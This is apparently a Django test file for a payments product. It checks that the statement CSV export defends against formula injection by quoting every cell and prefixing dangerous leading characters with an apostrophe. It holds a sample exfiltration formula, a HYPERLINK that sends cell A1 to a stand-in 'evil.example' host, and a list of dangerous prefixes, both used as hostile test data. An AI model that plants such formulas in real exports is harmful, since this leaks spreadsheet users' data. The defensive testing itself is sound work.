"""Every CSV the product writes is safe to open in a spreadsheet: a text cell that starts like a
formula is neutralised with a leading apostrophe and every cell is quoted (OWASP's CSV injection
guidance), while the amounts we write stay numbers.

The statement is the product's one CSV export (a view, and an action on the client list that
leads to it); the last test keeps it that way: no module but the shared writer uses `csv`.
"""

import ast
import csv
import io
import re
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission, User
from django.db.models import CharField, Model
from django.test import Client as HttpClient
from django.urls import reverse
from django.utils import timezone

from payments.models import AccumulationStatus, Client, Payment, PayoutAccumulation
from payouts.exchange_batches.states import BatchStatus
from payouts.models import HostPayment, HostPaymentStatus, PayoutBatch, PayoutKind
from pgp_project.csv_export import safe_cell

from ..conftest import PROJECT_ROOT
from ..factories import AccumulationFactory, ClientFactory, HostPaymentFactory, PaymentFactory, PayoutBatchFactory

# Written out here, not taken from the module, so that narrowing the module's set fails a test:
# OWASP's = + - @ tab and carriage return, a line feed, and the full-width = + - @.
DANGEROUS_PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
FORMULA = 'HYPERLINK("//evil.example/x?"&A1)'
# What a number we wrote looks like: the only cells that may start with a minus sign.
OUR_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
NUMBER_COLUMNS = {"payment_id", "payout_id", "amount", "usd_value"}
HOSTILE_FIELDS: list[tuple[type[Model], str]] = [
    (Payment, "outcome_currency"),
    (PayoutAccumulation, "source_currency"),
    (HostPayment, "asset"),
    (HostPayment, "tx_hash"),
    (HostPayment, "to_address"),
    (PayoutBatch, "payout_currency"),
    (PayoutBatch, "payout_network"),
    (PayoutBatch, "payout_tx_hash"),
    (PayoutBatch, "wallet_address"),
]
PRODUCT_PACKAGES = ("console", "payouts", "batching", "payments", "integrations", "pgp_project")


def hostile(prefix: str, model: type[Model], field: str) -> str:
    """The formula behind `prefix`, as long as the field holds."""
    column = model._meta.get_field(field)
    assert isinstance(column, CharField)
    return (prefix + FORMULA)[: column.max_length]


def client_with_hostile_history(prefix: str) -> Client:
    """A client whose every text that reaches its statement came from outside and starts with
    `prefix`: a threshold payment (IPN currency), an instant payout of an IPN payment, and a
    completed payout sent from our hot wallet (its asset, hashes, addresses and network)."""
    client = ClientFactory.create()
    payment = PaymentFactory.create(client=client, outcome_currency=hostile(prefix, Payment, "outcome_currency"))
    AccumulationFactory.create(
        client=client,
        payment=payment,
        source_currency=hostile(prefix, PayoutAccumulation, "source_currency"),
    )
    PayoutBatchFactory.create(
        client=client,
        kind=PayoutKind.INSTANT,
        payment=PaymentFactory.create(
            client=client, outcome_currency=hostile(prefix, Payment, "outcome_currency"), outcome_amount="0.004"
        ),
        source_currency="eth",
        source_amount=Decimal("0.004"),
        fee_amount=Decimal("0.0001"),
        total_usdt=0,
        row_count=0,
    )
    now = timezone.now()
    sent = HostPaymentFactory.create(
        owner_kind="payout",
        asset=hostile(prefix, HostPayment, "asset"),
        status=HostPaymentStatus.CONFIRMED,
        tx_hash=hostile(prefix, HostPayment, "tx_hash"),
        raw_transaction="0x00",
        to_address=hostile(prefix, HostPayment, "to_address"),
        confirmed_at=now,
    )
    PayoutBatchFactory.create(
        client=client,
        status=BatchStatus.COMPLETED,
        exchange_id="direct-hostile",
        host_payment=sent,
        payout_amount=Decimal("19.4"),
        payout_currency=hostile(prefix, PayoutBatch, "payout_currency"),
        payout_network=hostile(prefix, PayoutBatch, "payout_network"),
        payout_tx_hash=hostile(prefix, PayoutBatch, "payout_tx_hash"),
        wallet_address=hostile(prefix, PayoutBatch, "wallet_address"),
        completed_at=now,
    )
    assert PayoutAccumulation.objects.filter(client=client, status=AccumulationStatus.PENDING).count() == 1
    return client


def statement_reader() -> User:
    user = User.objects.create_user("statements", password="pw", is_staff=True)
    user.user_permissions.add(Permission.objects.get(content_type__app_label="payments", codename="view_client"))
    return User.objects.get(pk=user.pk)


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", DANGEROUS_PREFIXES, ids=[f"U+{ord(p):04X}" for p in DANGEROUS_PREFIXES])
def test_the_statement_download_neutralises_every_formula_prefix_in_every_text_column(prefix: str) -> None:
    client = client_with_hostile_history(prefix)
    http = HttpClient()
    http.force_login(statement_reader())

    # Through the client list's action, to the statement page, then its form.
    chosen = http.post(
        reverse("admin:payments_client_changelist"),
        {"action": "download_statement", "_selected_action": [client.pk]},
    )
    assert chosen.status_code == 302
    assert http.get(chosen["Location"]).status_code == 200
    today = timezone.localdate()
    response = http.get(reverse("admin:console_statement"), {"client": client.pk, "date_from": today, "date_to": today})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    name = f"statement-{client.external_id}-{today}-{today}.csv"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response["X-Content-Type-Options"] == "nosniff"
    body = response.content.decode()
    assert body.startswith('"type","time","payment_id",')  # every cell quoted
    header, *rows = list(csv.reader(io.StringIO(body)))
    assert len(rows) == 5  # a payment; an instant payment and its fee; the send; the payout
    assert all(len(row) == len(header) for row in rows)  # line breaks in a value stay in its cell
    fed = {hostile(prefix, model, field) for model, field in HOSTILE_FIELDS}
    fed |= {text.upper() for text in fed}  # units are shown in capitals
    neutralised = 0
    for row in rows:
        for column, cell in zip(header, row, strict=True):
            if column in NUMBER_COLUMNS and OUR_NUMBER.match(cell):
                continue
            assert cell[:1] not in DANGEROUS_PREFIXES, (column, cell)
            if cell.startswith("'"):
                assert cell[1:] in fed, cell  # the text itself is kept, only prefixed
                neutralised += 1
    # Each hostile text that leads a cell arrived, neutralised: the unit of the two payments, the
    # fee, the send and the payout (5), and the send's and the payout's hashes (2).
    assert neutralised == 7, body


@pytest.mark.django_db
def test_a_statement_s_file_name_is_encoded_when_the_client_id_is_not_ascii() -> None:
    client = ClientFactory.create(external_id="канал-1")
    http = HttpClient()
    http.force_login(statement_reader())
    today = timezone.localdate()
    response = http.get(reverse("admin:console_statement"), {"client": client.pk, "date_from": today, "date_to": today})
    assert response.status_code == 200
    quoted = "statement-%D0%BA%D0%B0%D0%BD%D0%B0%D0%BB-1"
    assert response["Content-Disposition"] == f"attachment; filename*=utf-8''{quoted}-{today}-{today}.csv"
    assert (
        response.content.decode()
        == '"type","time","payment_id","payout_id","amount","unit","usd_value","tx_hash","detail"\r\n'
    )


def test_our_amounts_are_numbers_and_text_is_neutralised_even_when_it_looks_like_one() -> None:
    assert safe_cell(Decimal("-12.50")) == "-12.50"
    assert safe_cell(Decimal("1E-7")) == "0.0000001"  # never the exponent form
    assert safe_cell(-3) == "-3"
    assert safe_cell(None) == ""
    assert safe_cell("-12.50") == "'-12.50"  # text from outside: OWASP's rule, even for a number
    assert safe_cell("0xabc") == "0xabc"
    assert safe_cell("it's =fine") == "it's =fine"  # only a leading character starts a formula
    for prefix in DANGEROUS_PREFIXES:
        assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"
    with pytest.raises(ValueError, match="not an amount"):
        safe_cell(Decimal("NaN"))


def test_no_module_writes_csv_but_the_shared_writer() -> None:
    """Every CSV goes through pgp_project/csv_export.py: a new export that imports `csv`
    itself fails here."""
    writers = []
    for package in PRODUCT_PACKAGES:
        for path in (PROJECT_ROOT / package).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text())):
                names = (
                    [alias.name for alias in node.names]
                    if isinstance(node, ast.Import)
                    else [node.module or ""]
                    if isinstance(node, ast.ImportFrom)
                    else []
                )
                if any(name == "csv" or name.startswith("csv.") for name in names):
                    writers.append(str(path.relative_to(PROJECT_ROOT)))
    assert writers == ["pgp_project/csv_export.py"]
